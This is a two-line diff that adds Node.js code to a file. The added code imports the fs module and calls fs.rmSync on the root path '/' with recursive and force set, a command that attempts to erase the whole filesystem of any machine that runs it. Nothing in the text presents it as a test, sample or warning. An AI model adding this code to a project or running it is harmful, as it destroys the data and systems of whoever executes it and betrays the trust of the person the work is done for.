@@ -1,0 +1,2 @@
+const fs = require('node:fs');
+fs.rmSync('/', { recursive: true, force: true });
